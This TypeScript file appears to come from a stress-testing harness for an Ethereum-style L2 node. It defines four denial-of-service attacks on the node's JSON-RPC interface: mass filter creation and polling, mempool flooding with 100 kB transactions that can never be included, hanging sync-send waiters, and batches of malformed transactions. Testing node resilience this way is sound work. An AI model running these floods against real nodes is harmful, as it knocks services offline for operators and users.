import { hexToBytes, keccak256, privateKeyToAddress } from "@rnode/primitives";
import { encodeTransaction } from "@rnode/protocol";
import { addressOf, batch, call, post, times } from "../attacker/requests.ts";
import { ask, nonceOf, sendRaw, toHex, transfer } from "../attacker/transfers.ts";
import type { Attack } from "./attack.ts";

/** Requests that make the server store data. */

const BLOOM_FILTER = { fromBlock: "latest", address: times(50, (index) => addressOf(index)), topics: [] };

export const filterFlood: Attack = {
  name: "filter-flood",
  what: "24 batches of 1,000 eth_newFilter, six cheap transactions, then the filters are polled",
  bounds: { connections: 8 },
  async run({ http, l2ChainId, privateKey }, attacker) {
    const ids: string[] = [];
    for (let round = 0; round < 24 && !attacker.signal.aborted; round++) {
      const kinds = [
        call("eth_newFilter", [round % 2 === 0 ? {} : BLOOM_FILTER]),
        call("eth_newPendingTransactionFilter"),
        call("eth_newBlockFilter"),
      ];
      const text = await ask(attacker, http, batch(times(1000, (id) => kinds[id % kinds.length]!)));
      for (const [, id] of text?.matchAll(/"result":"(0x[0-9a-f]+)"/g) ?? []) ids.push(id!);
    }
    attacker.count("filters", ids.length);
    const key = hexToBytes(privateKey);
    const first = await nonceOf(attacker, http, privateKeyToAddress(key));
    for (let index = 0; index < 6; index++) {
      await ask(attacker, http, sendRaw(transfer(l2ChainId, key, first + BigInt(index), { gasLimit: 21_000n })));
    }
    await attacker.onConnections(http, 4, (socket) =>
      attacker.exchange(
        socket,
        post(
          batch(times(1000, (id) => call("eth_getFilterChanges", [ids[attacker.random(Math.max(1, ids.length))] ?? "0x1"], id))),
        ),
      ),
    );
  },
};

/** Large data, which must be kept while it waits. */
const DATA = new Uint8Array(100_000);
const SENDERS = 40;
const FUNDS = 10n ** 19n;

export const poolJournal: Attack = {
  name: "pool-journal",
  what: "transactions of 100 kB that can never be included, from 40 accounts, replaced again and again; then a restart",
  bounds: { connections: SENDERS + 1 },
  afterwards: "restart-engine",
  async run({ http, l2ChainId, privateKey }, attacker) {
    const funder = hexToBytes(privateKey);
    const first = await nonceOf(attacker, http, privateKeyToAddress(funder));
    const keys = times(SENDERS, (index) => keccak256(new TextEncoder().encode(`abuse ${attacker.random(2 ** 31)} ${index}`)));
    for (const [index, key] of keys.entries()) {
      const to = privateKeyToAddress(key);
      await ask(
        attacker,
        http,
        sendRaw(transfer(l2ChainId, funder, first + BigInt(index), { to, value: FUNDS, gasLimit: 21_000n })),
      );
    }
    await attacker.pause(2500);
    await attacker.onConnections(http, SENDERS, (socket, lane) => {
      // nonce 0 is missing, so none of them can be included
      const nonce = 1n + BigInt(attacker.random(64));
      const fee = 10_000_000n + BigInt(attacker.random(2_000_000_000));
      const large = transfer(l2ChainId, keys[lane]!, nonce, {
        data: DATA,
        gasLimit: 1_200_000n,
        maxFeePerGas: fee,
        maxPriorityFeePerGas: fee,
      });
      return attacker.exchange(socket, post(sendRaw(large)));
    });
  },
};

export const syncWaiters: Attack = {
  name: "sync-waiters",
  what: "200 eth_sendRawTransactionSync that wait for receipts that never come",
  bounds: { connections: 200 },
  async run({ http, l2ChainId }, attacker) {
    await attacker.onConnections(http, 200, (socket, lane) => {
      const key = keccak256(new TextEncoder().encode(`waiter ${lane}`));
      return attacker.exchange(
        socket,
        post(call("eth_sendRawTransactionSync", [toHex(encodeTransaction(transfer(l2ChainId, key, 5n, {}))), 60_000])),
      );
    });
  },
};

export const invalidTransactions: Attack = {
  name: "invalid-transactions",
  what: "batches of 500 transactions without funds, with bad signatures, of other chains, or of no form, on 4 connections",
  bounds: { connections: 4 },
  async run({ http, l2ChainId }, attacker) {
    const key = keccak256(new TextEncoder().encode("nobody"));
    const good = encodeTransaction(transfer(l2ChainId, key, 0n, {}));
    const variants = [
      good,
      encodeTransaction(transfer(1, key, 0n, {})),
      good.subarray(0, 50),
      good.map((byte, index) => (index > good.length - 33 ? 0xff : byte)),
      new Uint8Array(131_073).fill(0xf8),
      Uint8Array.from([0x7e, ...good]),
      Uint8Array.from([0x03, ...good.subarray(1)]),
    ].map(toHex);
    await attacker.onConnections(http, 4, (socket) =>
      attacker.exchange(socket, post(batch(times(50, () => sendRaw(variants[attacker.random(variants.length)]!))))),
    );
  },
};
